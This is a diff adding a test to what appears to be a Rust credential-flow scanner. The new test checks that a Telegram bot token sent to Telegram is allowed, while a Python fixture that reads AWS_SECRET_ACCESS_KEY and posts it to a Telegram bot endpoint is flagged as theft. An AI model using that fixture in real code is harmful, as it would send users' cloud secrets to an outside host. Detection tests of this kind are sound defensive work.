@@ -169,6 +169,20 @@ fn a_keychain_item_sent_to_its_own_service() {
     assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
 }
 
+/// A webhook or bot service's own token sent to it is its use; another credential sent there
+/// is theft.
+#[test]
+fn a_drop_hosts_own_token_is_its_use() {
+    let v = py("import os, requests\n\
+        TOKEN = os.environ['TELEGRAM_BOT_TOKEN']\n\
+        requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', json={'text': 'hi'})\n");
+    assert!(v.is_empty(), "{v:?}");
+    let v = py("import os, requests\n\
+        k = os.environ['AWS_SECRET_ACCESS_KEY']\n\
+        requests.post('https://api.telegram.org/bot123:abc/sendMessage', json={'text': k})\n");
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High);
+}
+
 #[test]
 fn dotenv_found_by_glob_and_dns_and_smtp_and_curl() {
     let v = py("import glob, socket\n\
